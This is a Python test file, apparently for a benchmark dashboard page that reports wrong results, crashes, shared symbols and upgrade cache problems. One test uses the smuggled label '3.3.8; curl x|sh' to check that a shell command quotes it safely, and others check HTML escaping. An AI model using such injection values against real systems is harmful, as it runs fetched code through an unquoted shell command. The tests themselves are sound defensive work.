from __future__ import annotations

from pathlib import Path

from observatory.benchmarks.catalogue import Cell
from observatory.dashboard.pages.guard import PATH, guard_page
from observatory.dashboard.site import build
from observatory.dashboard.site_input import SiteInput
from observatory.store.records.settings import Row, Settings
from observatory.store.records.upgrades import Part
from tests import factories_frame as factory
from tests import factories_site
from tests.factories import WARM, header
from tests.factories_site import observed
from tests.unit.analyze.test_upgrades import upgrade

FORK = Cell("closures", "siblings", "NUMBA", "fork")
NESTED = Cell("lookalikes", "siblings_nested", "NUMBA", "fork")


def measured(*values: tuple[Cell, str, float], **changes: object) -> SiteInput:
    rows = [factory.row(cell, metric, value) for cell, metric, value in values]
    return observed(factory.as_frame(rows), **changes)


def test_without_siblings_and_upgrades_there_is_no_page() -> None:
    assert guard_page(measured((WARM, "wrong_results", 0))) is None


def test_each_arrangement_has_a_column_and_the_worst_model_is_told() -> None:
    page = guard_page(
        measured(
            (FORK, "wrong_results", 0), (FORK, "crashed", 0), (FORK, "collided_symbols", 0),
            (Cell("radon", "siblings", "NUMBA", "fork"), "wrong_results", 7),
            (NESTED, "wrong_results", 0), (NESTED, "crashed", 1),
        )
    )  # fmt: skip
    assert page is not None
    assert [column[:2] for column in page["columns"]] == [
        ("siblings", "fork"), ("siblings_nested", "fork"),
    ]  # fmt: skip
    ((_, _, symbols, fates),) = page["rows"]
    assert [(cell.text, cell.state) for cell in fates] == [
        ("7 wrong", "bad"), ("crashed", "bad"),
    ]  # fmt: skip
    assert symbols.text == "unique"
    assert page["verdict"].state == "bad"
    assert "siblings fork and siblings_nested fork" in page["where"]


def test_right_values_are_said_to_be_right_and_shared_symbols_are_not_hidden() -> None:
    page = guard_page(measured((FORK, "wrong_results", 0), (FORK, "collided_symbols", 14)))
    assert page is not None
    assert page["verdict"].text == "values are right, but symbols are not unique (14 shared)"
    assert page["verdict"].state == "bad"
    assert page["rows"][0][2][:2] == ("14 shared", "bad")


def test_one_cell_that_is_right_does_not_make_another_one_right() -> None:
    page = guard_page(measured((FORK, "wrong_results", 0), (NESTED, "crashed", 0)))
    assert page is not None
    assert (page["verdict"].text, page["verdict"].state) == ("not checked", "unknown")


def test_the_command_to_repeat_it_takes_the_whole_label_as_one_argument() -> None:
    row = factory.row(FORK, "wrong_results", 0)
    page = guard_page(observed(factory.as_frame([{**row, "subject": "3.3.8; curl x|sh"}])))
    assert page is not None
    assert page["again"] == "observatory canary '3.3.8; curl x|sh'"


def test_what_was_not_checked_is_not_said_to_be_right() -> None:
    page = guard_page(measured((FORK, "crashed", 0), (FORK, "vulnerable_symbols", 0)))
    assert page is not None
    assert (page["verdict"].text, page["verdict"].state) == ("not checked", "unknown")
    assert page["rows"][0][2][:2] == ("not checked", "unknown")


def test_each_row_of_other_settings_is_told(tmp_path: Path) -> None:
    rows = [
        Row(name="the usual settings", further={"files_leaked of radon warm_disk": 8}),
        Row(name="cxx=", further={"files_leaked of radon warm_disk": 8}),
        Row(name="<b>", counts={"cache_misses of radon warm_disk": 3}),
    ]
    head = header()
    crossed = Settings(
        machine=head.machine, subject=head.subject, versions=head.versions,
        taken_at=factories_site.MEASURED, seconds=840, rows=rows,
    )  # fmt: skip
    found = measured((FORK, "wrong_results", 0), settings=[crossed])
    page = guard_page(found)
    assert page is not None
    ((subject, where, date, told),) = page["settings"]
    assert (subject, where, date) == ("3.3.7", "bench, Python 3.13.0", "2026-08-14")
    assert [flag.text for _, flag in told] == [
        "right", "right", "3 cache_misses of radon warm_disk",
    ]  # fmt: skip
    text = (build(found, tmp_path / "html").parent / PATH).read_text()
    assert "&lt;b&gt;" in text


def test_a_stale_value_of_an_upgrade_is_a_sentence_and_a_flag(tmp_path: Path) -> None:
    stale = Part(model="randoms", backend="NUMBA", built=24, reused=30, stale=["<b>one"])
    found = measured((FORK, "wrong_results", 0), upgrades=[upgrade(stale)])
    page = guard_page(found)
    assert page is not None
    assert page["upgrades"][0][1][0].text == "1 stale"
    (finding,) = page["findings"]
    assert finding == "With the cache of 3.2.3, 3.2.4 returns what 3.2.3 compiled: <b>one."
    text = (build(found, tmp_path / "html").parent / PATH).read_text()
    assert "&lt;b&gt;one" in text
    assert "<b>one" not in text


def test_what_two_upgrades_tell_of_one_subject_is_told_once() -> None:
    wrong = Part(model="randoms", backend="NUMBA", base_wrong=["cauchy"])
    page = guard_page(measured((FORK, "wrong_results", 0), upgrades=[upgrade(wrong)] * 2))
    assert page is not None
    assert len(page["upgrades"]) == 2
    assert page["findings"] == ["3.2.3 computes wrong values even from an empty cache: cauchy."]


def test_graphs_that_the_head_cannot_build_are_named() -> None:
    lacking = Part(model="randoms", backend="NUMBA", built=23, unsupported=["cauchy"])
    page = guard_page(measured((FORK, "wrong_results", 0), upgrades=[upgrade(lacking)]))
    assert page is not None
    assert page["findings"] == ["3.2.4 cannot build all graphs, so these were not tried: cauchy."]


def test_an_upgrade_that_was_not_judged_is_not_called_right() -> None:
    failed = Part(model="randoms", backend="NUMBA", failure="nothing was filled: it hung")
    page = guard_page(measured((FORK, "wrong_results", 0), upgrades=[upgrade(failed)]))
    assert page is not None
    assert page["upgrades"][0][1][0].text == "not judged"
